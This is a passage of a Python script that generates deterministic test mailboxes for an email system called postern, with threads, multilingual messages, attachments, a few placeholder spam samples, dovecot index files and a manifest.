        "core-calendar", "Invitation: Design review", CAROL, [ALICE], w,
        multipart("alternative",
                  text("Design review, Tue 2 July 2024 14:00-15:00 UTC, room Orion.\n"),
                  Part("text/calendar", [("charset", "utf-8"), ("method", "REQUEST")],
                       [("Content-Transfer-Encoding", "7bit")],
                       b"BEGIN:VCALENDAR\nVERSION:2.0\nPRODID:-//postern seed//EN\n"
                       b"METHOD:REQUEST\nBEGIN:VEVENT\nUID:design-review@seed.postern.test\n"
                       b"DTSTAMP:20240620T120000Z\nDTSTART:20240702T140000Z\n"
                       b"DTEND:20240702T150000Z\nSUMMARY:Design review\n"
                       b"ORGANIZER:mailto:carol@example.com\n"
                       b"ATTENDEE:mailto:alice@postern.test\nEND:VEVENT\nEND:VCALENDAR\n"))))

    add("core-timezone", ["date-timezone"], "S", lambda w: message(
        "core-timezone", "Sent from Tokyo at 23:59 local time", TARO, [ALICE],
        w.astimezone(dt.timezone(dt.timedelta(hours=9))),
        text("Date header carries +0900.\n")))

    # Thread A (4 messages, one in Sent): root answered by alice.
    add("core-thread-a1", ["thread", "thread-a", "thread-root"], "SR", lambda w: message(
        "core-thread-a1", "Project Orion kickoff", CAROL, [ALICE, DAVE], w,
        text("Hi both,\n\nlet's kick off Orion next week. Which day works?\n\nCarol\n")))
    add("core-thread-a3", ["thread", "thread-a"], "S", lambda w: message(
        "core-thread-a3", "Re: Project Orion kickoff", CAROL, [ALICE, DAVE], w,
        text("Tuesday it is. I'll book the room.\n\n> Tuesday works for me.\n"),
        in_reply_to=mid(THREAD_A[1]), references=refs(THREAD_A, 2)))
    add("core-thread-a4", ["thread", "thread-a"], "", lambda w: message(
        "core-thread-a4", "Re: Project Orion kickoff", DAVE, [ALICE, CAROL], w,
        text("Tuesday is fine for me too.\n\n> Tuesday it is. I'll book the room.\n"),
        in_reply_to=mid(THREAD_A[2]), references=refs(THREAD_A, 3)))

    # Thread B (6 messages, one in Sent): a deep chain.
    for i, (seed_id, who, flags) in enumerate(
            [("core-thread-b1", HEINZ, "S"), ("core-thread-b2", DAVE, "SR"),
             (None, None, None), ("core-thread-b4", HEINZ, "S"),
             ("core-thread-b5", DAVE, "F"), ("core-thread-b6", HEINZ, "")]):
        if seed_id is None:
            continue
        subj = ("Re: " * min(i, 3)) + "Server room temperature"

        def build(w, seed_id=seed_id, who=who, subj=subj, i=i):
            return message(
                seed_id, subj, who, [ALICE], w,
                text("Message %d of the temperature thread.\n\n%s\n"
                     % (i + 1, wrap(sentences(random.Random(i), 2)))),
                in_reply_to=mid(THREAD_B[i - 1]) if i else None,
                references=refs(THREAD_B, i) if i else None)
        add(seed_id, ["thread", "thread-b"] + (["thread-root"] if i == 0 else []),
            flags, build)

    # Mail to the whole team with a Bcc-like shape and a List-Id.
    add("core-mailing-list", ["list-id", "list-unsubscribe"], "S", lambda w: message(
        "core-mailing-list", "[dev] Weekly build report", GIT, "dev@lists.example", w,
        text("All 312 tests passed.\n"),
        extra=[("List-Id", "Developers <dev.lists.example>"),
               ("List-Unsubscribe", "<mailto:dev-leave@lists.example>")]))

    # A couple of unread, flagged recent ones for the UI's first page.
    add("core-urgent", ["plain", "flagged", "unread"], "F", lambda w: message(
        "core-urgent", "URGENT: certificate expires tomorrow", GIT, [ALICE], w,
        text("The TLS certificate for www.example.com expires tomorrow.\n"),
        extra=[("Importance", "high"), ("X-Priority", "1")]))

    add("core-from-bob", ["plain", "local-sender"], "", lambda w: message(
        "core-from-bob", "Keys for the flat", BOB, [ALICE], w,
        text("Alice, I left the keys with the neighbour. Bob\n")))
    return C


_BIG = []


def BIG_PNG():
    if not _BIG:
        _BIG.append(noise_png(1024, 1000, 20240612))  # ~3 MB
    return _BIG[0]


# --------------------------------------------------------------------------
# Bulk INBOX messages: message i is the same whatever N is.
# --------------------------------------------------------------------------

def bulk_subject(i):
    """(rng positioned after the subject choices, sender, subject) of bulk i."""
    rng = random.Random(1000003 * i + 17)
    sender = BULK_SENDERS[rng.randrange(len(BULK_SENDERS))]
    topic = TOPICS[rng.randrange(len(TOPICS))]
    return rng, sender, "%s (#%05d)" % (topic[0].upper() + topic[1:], i)


def bulk_message(i, when):
    rng, sender, subject = bulk_subject(i)
    seed_id = "bulk-%05d" % i
    kind = rng.choices(["plain", "utf8", "alt", "html", "attach", "latin1"],
                       [40, 15, 20, 10, 10, 5])[0]
    irt = refs_ = None
    tags = ["bulk", kind]
    if i % 12 == 11:
        # A reply to one of the three previous bulk messages (a thread of 2).
        parent = i - 1 - rng.randrange(3)
        subject = "Re: " + bulk_subject(parent)[2]
        irt = mid("bulk-%05d" % parent)
        refs_ = [irt]
        tags.append("reply")
    para = wrap(sentences(rng, rng.randint(2, 6)))
    if kind == "plain":
        body = text("Hello Alice,\n\n%s\n\n%s\n" % (para, sender[0]))
    elif kind == "utf8":
        extra = " ".join(rng.choice(ACCENTED) for _ in range(8))
        body = text("Bonjour Alice,\n\n%s\n\n%s\n\n%s\n" % (para, extra, sender[0]),
                    cte="quoted-printable")
        subject = subject + " — " + rng.choice(ACCENTED)
    elif kind == "latin1":
        body = text("Hallo Alice,\n\n%s\n\nGrüße, %s\n" % (para, sender[0]),
                    charset="iso-8859-1", cte="quoted-printable")
    elif kind == "alt":
        body = multipart("alternative",
                         text("%s\n\n%s\n" % (para, sender[0])),
                         text(html_doc("<p>%s</p><p><i>%s</i></p>" % (para, sender[0])),
                              "html", cte="quoted-printable"))
    elif kind == "html":
        body = text(html_doc("<p>%s</p><p><img src=\"http://img.example.net/b%d.png\" "
                             "alt=\"\"></p>" % (para, i % 7)), "html",
                    cte="quoted-printable")
        tags.append("remote-images")
    else:
        if rng.random() < 0.5:
            att = attachment("application/pdf", pdf("Document %d" % i), "document-%05d.pdf" % i)
        else:
            att = attachment("image/png", png(16, 16, lambda x, y, i=i: (
                (x * 16 + i) % 256, (y * 16) % 256, (i * 7) % 256)), "image-%05d.png" % i)
        body = multipart("mixed", text("%s\n\n%s\n" % (para, sender[0])), att)
    raw = message(seed_id, subject, sender, [ALICE], when, body,
                  in_reply_to=irt, references=refs_)
    r = rng.random()
    return seed_id, tags, raw, r


# --------------------------------------------------------------------------
# Other folders and users
# --------------------------------------------------------------------------

def folder_messages(core_times):
    """{(user, folder): [(seed_id, tags, flags, keywords, when, raw)]} except
    alice's INBOX. core_times: {seed id: Date of that core INBOX message}."""
    F = {}
    t0 = CORE_START
    after = {k: core_times[k] + dt.timedelta(hours=2) for k in
             ("core-thread-a1", "core-thread-b2", "core-thread-a4")}

    def put(user, folder, seed_id, tags, flags, when, raw, keywords=()):
        F.setdefault((user, folder), []).append((seed_id, tags, flags, keywords, when, raw))

    # Sent: alice's side of the threads and a couple of others.
    w = after["core-thread-a1"]
    put("alice", "Sent", "sent-thread-a2", ["thread", "thread-a"], "S", w,
        message("sent-thread-a2", "Re: Project Orion kickoff", ALICE, [CAROL, DAVE], w,
                text("Tuesday works for me.\n\n> let's kick off Orion next week.\n"),
                in_reply_to=mid(THREAD_A[0]), references=refs(THREAD_A, 1),
                extra=[("User-Agent", "postern-seed")]))
    w = after["core-thread-b2"]
    put("alice", "Sent", "sent-thread-b3", ["thread", "thread-b"], "S", w,
        message("sent-thread-b3", "Re: Re: Server room temperature", ALICE, [HEINZ, DAVE], w,
                text("I'll call facilities about the air conditioning.\n"),
                in_reply_to=mid(THREAD_B[1]), references=refs(THREAD_B, 2)))
    put("alice", "Sent", "sent-report", ["attachment", "pdf"], "S",
        t0 - dt.timedelta(days=20),
        message("sent-report", "Monthly report", ALICE, [GRACE], t0 - dt.timedelta(days=20),
                multipart("mixed", text("Report attached.\n"),
                          attachment("application/pdf", pdf("Monthly report"),
                                     "report-may.pdf"))))
    put("alice", "Sent", "sent-to-bob", ["plain"], "S", t0 - dt.timedelta(days=15),
        message("sent-to-bob", "Dinner?", ALICE, [BOB], t0 - dt.timedelta(days=15),
                text("Dinner at eight?\n")))
    put("alice", "Sent", "sent-utf8", ["plain", "utf-8"], "S", t0 - dt.timedelta(days=9),
        message("sent-utf8", "Merci beaucoup !", ALICE, [ELODIE], t0 - dt.timedelta(days=9),
                text("Merci pour l'accueil, c'était très agréable.\n",
                     cte="quoted-printable")))
    put("alice", "Sent", "sent-multi", ["plain", "many-recipients"], "S",
        t0 - dt.timedelta(days=3),
        message("sent-multi", "Slides", ALICE, [CAROL, DAVE, GRACE],
                t0 - dt.timedelta(days=3), text("Slides are on the share.\n"),
                cc=[BOB]))

    # Drafts
    w = after["core-thread-a4"]
    put("alice", "Drafts", "draft-reply", ["draft", "thread-a"], "DS", w,
        message("draft-reply", "Re: Project Orion kickoff", ALICE, [CAROL],
                w, text("Room booked? I can also bring the\n"),
                in_reply_to=mid(THREAD_A[3]), references=refs(THREAD_A, 4)))
    put("alice", "Drafts", "draft-attachment", ["draft", "attachment"], "DS",
        t0 + dt.timedelta(days=13),
        message("draft-attachment", "Photos from the offsite", ALICE, [GRACE],
                t0 + dt.timedelta(days=13),
                multipart("mixed", text("Two photos, more to follow.\n"),
                          attachment("image/png", LOGO_PNG, "offsite-1.png"))))
    put("alice", "Drafts", "draft-no-recipient", ["draft", "no-recipient"], "DS",
        t0 + dt.timedelta(days=14),
        message("draft-no-recipient", "Ideas", ALICE, "", t0 + dt.timedelta(days=14),
                text("- fewer meetings\n- better coffee\n")).replace(b"To: \n", b""))

    # Trash
    for k in range(4):
        w = t0 - dt.timedelta(days=40 - k)
        put("alice", "Trash", "trash-%d" % (k + 1), ["trash"], "S", w,
            message("trash-%d" % (k + 1), "Old notification %d" % (k + 1), GIT, [ALICE], w,
                    text("Build %d finished.\n" % (100 + k))))

    # Archive and Archive/2023
    for k in range(5):
        w = dt.datetime(2023, 3 + 2 * k, 14, 9, 15, tzinfo=UTC)
        put("alice", "Archive", "archive-%d" % (k + 1), ["archive"], "S", w,
            message("archive-%d" % (k + 1), "Archived: %s" % TOPICS[k].title(),
                    BULK_SENDERS[k], [ALICE], w,
                    text(wrap(sentences(random.Random(k + 50), 3)) + "\n")))
    for k in range(2):
        w = dt.datetime(2023, 11, 20 + k, 16, 0, tzinfo=UTC)
        put("alice", "Archive/2023", "archive-2023-%d" % (k + 1), ["archive", "nested"], "S",
            w, message("archive-2023-%d" % (k + 1), "Year-end %d" % (k + 1), GRACE,
                       [ALICE], w, text("Year-end note %d.\n" % (k + 1))))

    # Junk
    spam = [
        ("junk-prize", "You have WON a prize!!!", ("Prize Dept", "win@lottery.example")),
        ("junk-phish", "Your mailbox is full – verify now",
         ("Mail Admin", "admin@postern-test.example")),
        ("junk-pharma", "Cheap meds, no prescription", ("Pharmacy", "sales@pills.example")),
    ]
    for k, (sid, subj, who) in enumerate(spam):
        w = t0 + dt.timedelta(days=k * 4, hours=2)
        put("alice", "Junk", sid, ["junk", "html", "remote-images"], "", w,
            message(sid, subj, who, [ALICE], w,
                    text(html_doc("<p>%s</p><p><a href=\"http://%s/click\">Click here</a>"
                                  "<img src=\"http://%s/pixel.gif\"></p>"
                                  % (subj, who[1].split("@")[1], who[1].split("@")[1])),
                         "html", cte="quoted-printable")),
            keywords=("$Junk",))

    # Reçus (non-ASCII folder name)
    fr = [("recus-1", "Reçu de paiement n° 1042", FRANCOIS, "iso-8859-1"),
          ("recus-2", "Votre reçu — abonnement été", ELODIE, "utf-8"),
          ("recus-3", "Reçu : dépôt de garantie", FRANCOIS, "iso-8859-1"),
          ("recus-4", "Reçu fiscal 2023", ELODIE, "utf-8")]
    for k, (sid, subj, who, cs) in enumerate(fr):
        w = t0 - dt.timedelta(days=30 - 5 * k)
        put("alice", "Reçus", sid, ["non-ascii-folder", cs], "S" if k < 3 else "", w,
            message(sid, None, mailbox(*who, charset=cs, enc="q"), [ALICE], w,
                    text("Bonjour,\n\nVeuillez trouver ci-dessous votre reçu (%s).\n"
                         "Montant : 42,00 €\n" % subj,
                         charset="utf-8" if cs == "utf-8" else "iso-8859-15",
                         cte="quoted-printable"),
                    subject_raw=encoded_words(subj, cs, "q")))

    # bob
    bob_msgs = [
        ("bob-welcome", "Welcome to postern.test", ("Postmaster", "postmaster@" + DOMAIN),
         text("Welcome, Bob.\n")),
        ("bob-from-alice", "Dinner?", ALICE, text("Dinner at eight?\n")),
        ("bob-html", "Photos", CAROL, multipart("alternative", text("Photos!\n"), text(
            html_doc("<p>Photos!</p><img src=\"http://img.example.net/x.png\">"),
            "html", cte="quoted-printable"))),
        ("bob-attachment", "Manual", DAVE, multipart(
            "mixed", text("Manual attached.\n"),
            attachment("application/pdf", pdf("Manual"), "manual.pdf"))),
        ("bob-utf8", "Ça marche ✔", ELODIE, text("Ça marche très bien.\n",
                                                 cte="quoted-printable")),
    ]
    for k, (sid, subj, who, body) in enumerate(bob_msgs):
        w = t0 + dt.timedelta(days=k * 3, hours=k)
        put("bob", "INBOX", sid, ["bob"], "S" if k < 2 else "", w,
            message(sid, subj, who, [BOB], w, body))
    return F


# --------------------------------------------------------------------------
# Maildir++ writer
# --------------------------------------------------------------------------

FOLDERS = ["INBOX", "Sent", "Drafts", "Trash", "Archive", "Archive/2023", "Junk", "Reçus"]
SPECIAL = {"Sent": "Sent", "Drafts": "Drafts", "Trash": "Trash", "Archive": "Archive",
           "Junk": "Junk"}
USERS = {"alice": FOLDERS, "bob": ["INBOX"], "sink": ["INBOX"]}
KEYWORDS = ["$Forwarded", "$Junk"]  # Maildir keyword letters a, b


def mutf7(name):
    """IMAP modified UTF-7 (RFC 3501 5.1.3)."""
    out, buf = [], ""

    def flush():
        if buf:
            b = base64.b64encode(buf.encode("utf-16-be")).decode().rstrip("=")
            out.append("&" + b.replace("/", ",") + "-")

    for ch in name:
        if 0x20 <= ord(ch) <= 0x7E:
            flush()
            buf = ""
            out.append("&-" if ch == "&" else ch)
        else:
            buf += ch
    flush()
    return "".join(out)


def disk_dir(maildir, folder):
    if folder == "INBOX":
        return maildir
    return os.path.join(maildir, "." + ".".join(mutf7(p) for p in folder.split("/")))


def mkdirs(path, owner):
    for sub in ("", "cur", "new", "tmp"):
        p = os.path.join(path, sub)
        os.makedirs(p, mode=0o700, exist_ok=True)
        if owner:
            os.chown(p, *owner)


def write_folder(maildir, folder, msgs, uidvalidity, owner):
    """msgs: list of (seed_id, tags, flags, keywords, when, raw) in UID order."""
    path = disk_dir(maildir, folder)
    mkdirs(path, owner)
    if folder != "INBOX":
        marker = os.path.join(path, "maildirfolder")
        open(marker, "wb").close()
        if owner:
            os.chown(marker, *owner)
    lines = []
    out = []
    for uid, (seed_id, tags, flags, keywords, when, raw) in enumerate(msgs, 1):
        ts = int(when.timestamp())
        vsize = len(raw) + raw.count(b"\n")
        base = "%d.M%06dP%d.postern-seed,S=%d,W=%d" % (ts, uid % 1000000, uid, len(raw), vsize)
        letters = "".join(sorted(flags + "".join(
            chr(ord("a") + KEYWORDS.index(k)) for k in keywords)))
        fn = os.path.join(path, "cur", base + ":2," + letters)
        with open(fn, "wb") as f:
            f.write(raw)
        os.utime(fn, (ts, ts))
        if owner:
            os.chown(fn, *owner)
        lines.append("%d :%s\n" % (uid, base))
        out.append((uid, seed_id, tags, flags, keywords, when, raw))
    guid = hashlib.md5(("postern-seed/%s/%s" % (os.path.basename(os.path.dirname(maildir)), folder)).encode()).hexdigest()
    files = {"dovecot-uidlist": "3 V%d N%d G%s\n%s" % (
        uidvalidity, len(msgs) + 1, guid, "".join(lines))}
    if any(m[3] for m in msgs):
        files["dovecot-keywords"] = "".join("%d %s\n" % kv for kv in enumerate(KEYWORDS))
    for name, content in files.items():
        p = os.path.join(path, name)
        with open(p, "w") as f:
            f.write(content)
        os.chmod(p, 0o600)
        if owner:
            os.chown(p, *owner)
    return out


def write_subscriptions(maildir, folders, owner):
    lines = "".join("\t".join(mutf7(p) for p in f.split("/")) + "\n" for f in folders)
    p = os.path.join(maildir, "subscriptions")
    with open(p, "w") as f:
        f.write("V\t2\n\n" + lines)
    os.chmod(p, 0o600)
    if owner:
        os.chown(p, *owner)


FLAG_NAMES = {"S": "\\Seen", "F": "\\Flagged", "R": "\\Answered", "D": "\\Draft",
              "T": "\\Deleted"}


def decoded(raw, name):
    msg = message_from_bytes(raw.split(b"\n\n", 1)[0] + b"\n\n")
    v = msg.get(name)
    if v is None:
        return None
    return str(make_header(decode_header(v.replace("\n ", " "))))


def main():
    ap = argparse.ArgumentParser(
        description="Write the deterministic seed mailboxes of postern's test environment.")
    ap.add_argument("--mail-root", required=True,
                    help="directory that gets <user>/Maildir for alice, bob, sink")
    ap.add_argument("--messages", type=int, default=200, help="messages in alice's INBOX")
    ap.add_argument("--owner", help="UID:GID to chown everything to")
    ap.add_argument("--separator", default="/", help="IMAP hierarchy separator (for --env)")
    ap.add_argument("--prefix", default="", help="IMAP namespace prefix (for --env)")
    ap.add_argument("--manifest", help="write a JSON manifest of every message here")
    ap.add_argument("--env", help="write SEED_* KEY=value lines here")
    ap.add_argument("--big-attachment", type=int, default=0, metavar="BYTES",
                    help="make INBOX UID N-43 a message with an attachment of "
                    "BYTES random bytes (benchmarks; 0: none, the default)")
    a = ap.parse_args()

    catalog = core_catalog()
    big = 1 if a.big_attachment > 0 else 0
    if a.messages < len(catalog) + big:
        sys.exit("seed_mail.py: --messages must be at least %d (the fixed core set)"
                 % (len(catalog) + big))
    owner = tuple(int(x) for x in a.owner.split(":")) if a.owner else None

    # alice's INBOX: bulk (oldest) then core (newest).
    n_bulk = a.messages - len(catalog) - big
    inbox = []
    span = (BULK_END - BULK_START).total_seconds()
    for i in range(n_bulk):
        when = BULK_START + dt.timedelta(seconds=int(span * i / max(n_bulk, 1)))
        seed_id, tags, raw, r = bulk_message(i, when)
        recent = i >= n_bulk * 0.9
        seen = r > (0.35 if recent else 0.08)
        rr = random.Random(i * 31 + 5).random()
        flags = ("S" if seen else "") + ("F" if rr < 0.05 else "") + \
            ("R" if 0.05 <= rr < 0.13 and seen else "")
        inbox.append((seed_id, tags, flags, (), when + dt.timedelta(seconds=41), raw))
    if big:
        inbox.append(big_attachment_message(a.big_attachment))
    core_times = {}
    for k, (seed_id, tags, flags, build, keywords) in enumerate(catalog):
        when = CORE_START + dt.timedelta(hours=9 * k, minutes=(k * 17) % 60)
        core_times[seed_id] = when
        inbox.append((seed_id, tags, flags, keywords,
                      when + dt.timedelta(seconds=37 + k), build(when)))

    folders = folder_messages(core_times)
    folders[("alice", "INBOX")] = inbox
    manifest, counts = [], {}
    uidvalidity = UIDVALIDITY_BASE
    for user, user_folders in USERS.items():
        home = os.path.join(a.mail_root, user)
        os.makedirs(home, mode=0o700, exist_ok=True)
        if owner:
            os.chown(home, *owner)
        maildir = os.path.join(home, "Maildir")
        for folder in user_folders:
            msgs = sorted(folders.get((user, folder), []), key=lambda m: m[4]) \
                if folder != "INBOX" or user != "alice" else folders[(user, folder)]
            uidvalidity += 1
            written = write_folder(maildir, folder, msgs, uidvalidity, owner)
            counts[(user, folder)] = written
            for uid, seed_id, tags, flags, keywords, when, raw in written:
                manifest.append({
                    "user": user, "folder": folder, "imap_folder": vname(folder, a),
                    "uid": uid, "uidvalidity": uidvalidity, "seed_id": seed_id,
                    "message_id": mid(seed_id),
                    "subject": decoded(raw, "Subject"), "from": decoded(raw, "From"),
                    "date": decoded(raw, "Date"),
                    "internaldate": when.strftime("%Y-%m-%dT%H:%M:%SZ"),
                    "flags": [FLAG_NAMES[c] for c in flags], "keywords": list(keywords),
                    "size": len(raw) + raw.count(b"\n"), "tags": tags})
        write_subscriptions(maildir, user_folders, owner)
        for p in (home, maildir):
            if owner:
                os.chown(p, *owner)

    if a.manifest:
        with open(a.manifest, "w") as f:
            json.dump(manifest, f, ensure_ascii=False, indent=0)
            f.write("\n")
    if a.env:
        env = seed_env(counts, a)
        with open(a.env, "w") as f:
            f.writelines("%s=%s\n" % (k, shlex.quote(str(v))) for k, v in env)


def big_attachment_message(size):
    """The benchmarks' large download: an inbox entry (see main) whose part 2
    is size bytes of random data, the same bytes on every run."""
    when = dt.datetime(2024, 6, 8, 12, 0, tzinfo=UTC)
    data = random.Random(20240608).randbytes(size)
    raw = message("bench-big-attachment", "Big attachment (%d bytes)" % size, DAVE,
                  [ALICE], when,
                  multipart("mixed", text("The file is attached.\n"),
                            attachment("application/octet-stream", data,
                                       "bench-big.bin")))
    return ("bench-big-attachment", ["bench", "attachment", "big-attachment"], "S", (),
            when, raw)


def vname(folder, a):
    if folder == "INBOX":
        return "INBOX"
    return a.prefix + folder.replace("/", a.separator)


def seed_env(counts, a):
    inbox = counts[("alice", "INBOX")]
    env = [
        ("SEED_INBOX_COUNT", len(inbox)),
        ("SEED_INBOX_UNSEEN", sum(1 for m in inbox if "S" not in m[3])),
        ("SEED_INBOX_FLAGGED", sum(1 for m in inbox if "F" in m[3])),
        ("SEED_INBOX_ANSWERED", sum(1 for m in inbox if "R" in m[3])),
        ("SEED_FOLDERS", ",".join(vname(f, a) for f in FOLDERS)),
        ("SEED_FOLDERS_MUTF7", ",".join(mutf7(vname(f, a)) for f in FOLDERS)),
    ]
    for f in FOLDERS[1:]:
        key = {"Archive/2023": "NESTED", "Reçus": "NONASCII"}.get(f, f.upper())
        env.append(("SEED_FOLDER_" + key, vname(f, a)))
        if key == "NONASCII":
            env.append(("SEED_FOLDER_NONASCII_MUTF7", mutf7(vname(f, a))))
        env.append(("SEED_%s_COUNT" % key, len(counts[("alice", f)])))
    env.append(("SEED_ALICE_TOTAL", sum(len(v) for (u, _), v in counts.items()
                                        if u == "alice")))
    env.append(("SEED_BOB_INBOX_COUNT", len(counts[("bob", "INBOX")])))
    env.append(("SEED_SINK_INBOX_COUNT", len(counts[("sink", "INBOX")])))
    return env


if __name__ == "__main__":
    main()
